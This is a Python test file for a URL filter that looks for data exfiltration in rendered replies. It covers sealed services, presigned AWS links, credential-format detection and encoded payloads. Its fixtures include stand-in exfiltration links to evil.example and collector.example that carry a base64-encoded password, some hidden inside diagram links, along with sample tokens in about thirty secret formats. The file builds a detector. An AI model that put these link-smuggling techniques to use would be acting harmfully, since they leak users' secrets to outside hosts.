"""Reply-only judgement (issue 12, item 4): what a URL carries, judged from the URL alone.

The attack and honest cases per class are fixtures (tests/fixtures/*/reply_only_*.md);
the corpus of real links is tests/test_reply_only_corpus.py. Here: the host classes,
the provider shapes, the credential list, and properties over random payloads.
"""

from __future__ import annotations

import base64
import binascii
import json
import random
import string
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rendersafe import Policy, Reason
from rendersafe.urls import Role, UrlJudge, parse_url
from rendersafe.urls.classes import SEALED_SERVICES
from rendersafe.urls.credentials import CREDENTIALS, SECRET_PATTERNS, card_numbers
from rendersafe.urls.datafiles import entries
from rendersafe.urls.hosts import SHARED_TENANT_HOSTS, sealed_service

JUDGE = UrlJudge(Policy())


def _reasons(url: str) -> set[Reason]:
    return set(JUDGE.judge(url, Role.LINK).reasons)


@pytest.mark.parametrize(
    ("url", "sealed"),
    [
        ("https://www.google.com/search?q=a+thirteen+word+question", True),
        ("http://www.google.com/search?q=x", True),
        ("https://www.google.com/search/about", True),
        ("https://www.google.com/searchx?q=x", False),
        ("https://www.google.com/url?q=https://evil.example/", False),
        ("https://www.google.com/URL?q=https://evil.example/", False),
        ("https://www.google.com/", False),
        ("https://www.google.com:8443/search?q=x", False),
        ("https://user@www.google.com/search?q=x", False),
        ("https://duckduckgo.com/?q=rust+borrow+checker", True),
        ("https://duckduckgo.com/?q=!g+rust", False),
        ("https://duckduckgo.com/l/?uddg=https%3A%2F%2Fevil.example", False),
        ("https://portal.azure.com/#@contoso.onmicrosoft.com/resource/subscriptions/x", True),
        ("https://us02web.zoom.us/j/83712345678?pwd=abc", True),
        ("https://zoom.us/j/83712345678", True),
        ("https://zoom.us/signin", False),
        ("https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74/edit", True),
        ("https://docs.google.com/forms/d/e/x/formResponse?entry.1=x", False),
        ("https://lh3.googleusercontent.com/a/x", False),
        ("https://script.google.com/macros/s/x/exec", False),
        ("https://evil.example/search?q=x", False),
        ("/search?q=x", False),
        ("https://www.google.com\\@evil.example/search", False),
    ],
)
def test_sealed_services(url: str, sealed: bool) -> None:
    assert sealed_service(parse_url(url)) is sealed


def test_every_listed_host_says_why() -> None:
    for name in ("sealed_services.txt", "shared_tenant_hosts.txt"):
        listed = entries(name)
        assert listed
        assert all(len(reason) >= 8 for _entry, reason in listed)
    assert len(SEALED_SERVICES) >= 50
    assert {"script.google.com", "camo.githubusercontent.com", "s3.amazonaws.com"} <= set(
        SHARED_TENANT_HOSTS
    )


def test_no_shared_tenant_host_is_sealed_as_a_whole() -> None:
    whole = {entry for entry, _why in SEALED_SERVICES if "/" not in entry}
    assert whole.isdisjoint(SHARED_TENANT_HOSTS)


def test_a_sealed_service_still_gets_the_credential_checks() -> None:
    assert Reason.SECRET_PATTERN in _reasons(
        "https://www.google.com/search?q=ghp_16C7e42F292c6912E7710c838347Ae178B4a"
    )
    assert Reason.INVISIBLE_CHARACTERS in _reasons(
        "https://www.google.com/search?q=a\ufe00\ufe01\ufe02"
    )


def _diagram(host_path: str, text: str) -> str:
    return f"https://{host_path}" + base64.urlsafe_b64encode(zlib.compress(text.encode())).decode()


def test_links_inside_a_diagram_are_judged() -> None:
    payload = base64.b64encode(b"The user's password is hunter2 at Elm St").decode()
    evil = _diagram(
        "kroki.io/plantuml/svg/", f"@startuml\nA -> B: [[https://evil.example/?d={payload}]]"
    )
    honest = _diagram("kroki.io/plantuml/svg/", "@startuml\nA -> B: [[https://docs.example.com/]]")
    assert Reason.NESTED_URL in _reasons(evil)
    assert _reasons(honest) == set()
    state = json.dumps({"code": f"graph TD\n A[<img src='https://evil.example/?d={payload}'>]"})
    pako = base64.urlsafe_b64encode(zlib.compress(state.encode())).decode()
    assert Reason.NESTED_URL in _reasons(f"https://mermaid.live/edit#pako:{pako}")


AWS = (
    "https://bucket.s3.us-east-1.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256"
    "&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20130524%2Fus-east-1%2Fs3%2Faws4_request"
    "&X-Amz-Date=20130524T000000Z&X-Amz-Expires=86400&X-Amz-SignedHeaders=host"
    "&X-Amz-Signature=aeeed9bbccd4d02ee5c0109b86d86835f995330da4c265957d157751f604d404"
)


def test_a_presigned_url_keeps_the_providers_parameters() -> None:
    assert _reasons(AWS) == set()
    assert _reasons(AWS.replace("X-Amz-Date", "X-Amz-Datum")) == {Reason.SECRET_PATTERN}
    assert _reasons(AWS + "&X-Amz-Date=20130524T000000Z") == {Reason.SECRET_PATTERN}
    assert _reasons(AWS.replace("bucket.s3.us-east-1.amazonaws.com", "evil.example")) == {
        Reason.SECRET_PATTERN
    }


def test_a_signature_that_decodes_to_text_is_not_the_providers() -> None:
    text = binascii.hexlify(b"The user's password is hunter2..").decode()
    url = AWS.replace("aeeed9bbccd4d02ee5c0109b86d86835f995330da4c265957d157751f604d404", text)
    assert Reason.ENCODED_HEX in _reasons(url)


def test_a_long_presigned_url_is_not_long_for_its_token() -> None:
    token = base64.b64encode(random.Random(3).randbytes(900)).decode()
    url = f"{AWS}&X-Amz-Security-Token={quote(token, safe='')}"
    assert len(url) > Policy().thresholds.max_url_chars
    assert _reasons(url) == set()


SAMPLES = {
    "AWS access key id": "AKIAQ3EGUDYSE5J3XZ7K",
    "GitHub token": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "GitHub fine-grained token": "github_pat_11ABCDEFG0123456789abcdefghij",
    "OpenAI / Anthropic key": "sk-proj-Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MA",
    "Slack token": "xoxb-1234567890-0987654321-AbCdEf",
    "Google API key": "AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW",
    "Google OAuth access token": "ya29.a0AfH6SMBx3jKlmNoPqRsTuVwXyZ0123",
    "Stripe key": "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "JSON Web Token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig",
    "private key": "-----BEGIN RSA PRIVATE KEY",
    "GitLab token": "glpat-xYz0123456789AbCdEfGh",
    "npm token": "npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "PyPI token": "pypi-AgEIcHlwaS5vcmcCJGFiY2RlZjAxLTIzNDUtNjc4",
    "Hugging Face token": "hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567",
    "SendGrid key": "SG.ngeVfQFYQlKU0ufo8x5d1A.TwL2iGABf9DHoTf-09kqeF8tAmbihYzrnopKc",
    "DigitalOcean token": "dop_v1_" + "4f3b2a1c0d9e8f7a" * 4,
    "Databricks token": "dapi0123456789abcdef0123456789abcdef",
    "Twilio API key": "SK0123456789abcdef0123456789abcdef",
    "Shopify token": "shpat_0123456789abcdef0123456789abcdef",
    "Groq key": "gsk_" + "Ab3" * 17,
    "xAI key": "xai-" + "Ab3" * 21,
    "Replicate token": "r8_" + "Ab3" * 13,
    "Perplexity key": "pplx-" + "Ab3" * 14,
    "Notion token": "ntn_" + "Ab3" * 14,
    "Linear key": "lin_api_" + "Ab3" * 11,
    "Postman key": "PMAK-0123456789abcdef01234567-0123456789abcdef0123456789abcdef01",
    "Atlassian token": "ATATT3" + "xFfGF0" * 18,
    "Figma token": "figd_" + "Ab3_" * 9,
    "Mailgun key": "key-0123456789abcdef0123456789abcdef",
    "Telegram bot token": "bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1",
}


def test_every_credential_format_has_a_sample() -> None:
    assert sorted(SAMPLES) == sorted(name for name, _pattern in CREDENTIALS)


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_credential_formats_are_found(name: str) -> None:
    assert SECRET_PATTERNS.search(SAMPLES[name])
    assert Reason.SECRET_PATTERN in _reasons(f"https://evil.example/?x={SAMPLES[name]}")


@pytest.mark.parametrize(
    "text",
    [
        "3-ways-to-mitigate-risk-using-private-package-feeds",
        "task-list-items-extension-",
        "desk-lamp-reviews-2024",
        "the-hf_transformers-guide",
        "monkey-0123456789abcdef0123456789abcdef",
    ],
)
def test_slugs_are_not_credentials(text: str) -> None:
    assert not SECRET_PATTERNS.search(text)


def test_card_numbers() -> None:
    assert card_numbers("4111 1111 1111 1111")
    assert card_numbers("3782-822463-10005")
    assert not card_numbers("4111 1111 1111 1112")  # checksum
    assert not card_numbers("1111 1111 1111 1117")  # no issuer starts with 1
    assert not card_numbers("5229304507138048")  # bare digits, not a parameter value
    assert card_numbers("", [("c", "5229304507138048")])
    assert not card_numbers("", [("testcase_id", "5229304507138048")])


ENCODERS: dict[str, Callable[[bytes], str]] = {
    "base64": lambda b: base64.b64encode(b).decode(),
    "base64url": lambda b: base64.urlsafe_b64encode(b).decode().rstrip("="),
    "hex": lambda b: binascii.hexlify(b).decode(),
    "base32": lambda b: base64.b32encode(b).decode().rstrip("="),
    "base32 lower": lambda b: base64.b32encode(b).decode().rstrip("=").lower(),
}
PLACES = {
    "query": "https://collector.example/p?d={}",
    "path": "https://collector.example/{}/p",
    "fragment": "https://collector.example/#{}",
}
WORDS = ("the", "user", "said", "their", "password", "is", "hunter2", "at", "elm", "street", "pin")
SENTENCE = st.lists(
    st.one_of(st.sampled_from(WORDS), st.integers(0, 10**16).map(str)), min_size=2, max_size=12
).map(" ".join)
# A key: random letters and digits (from a seed, so that shrinking keeps it random).
TOKEN = st.integers(0, 2**32).map(
    lambda seed: "".join(random.Random(seed).choices(string.ascii_letters + string.digits, k=20))
)


@settings(max_examples=300, deadline=None)
@given(
    text=st.one_of(SENTENCE, TOKEN).filter(lambda t: len(t) >= 12),
    encoding=st.sampled_from(sorted(ENCODERS)),
    place=st.sampled_from(sorted(PLACES)),
    piece=st.integers(min_value=4, max_value=64),
    separator=st.sampled_from(["-", ".", "_", "~"]),
)
def test_encoded_text_is_found_whole_or_split(
    text: str, encoding: str, place: str, piece: int, separator: str
) -> None:
    """12+ bytes of words, numbers or a token, in any listed encoding, whole or in pieces."""
    encoded = ENCODERS[encoding](text.encode())
    joined = separator.join(encoded[i : i + piece] for i in range(0, len(encoded), piece))
    verdict = JUDGE.judge(PLACES[place].format(joined), Role.LINK)
    assert verdict.action == "drop", (encoding, joined)


def test_random_identifiers_are_not_text() -> None:
    rng = random.Random(12)
    alphabets = [string.ascii_letters + string.digits, string.hexdigits.lower(), "abcdef234567"]
    flagged = []
    for _ in range(3000):
        alphabet = rng.choice(alphabets)
        token = "".join(rng.choice(alphabet) for _ in range(rng.randint(16, 47)))
        if _reasons(f"https://docs.example.com/d/{token}/edit?id={token}"):
            flagged.append(token)
    assert flagged == []
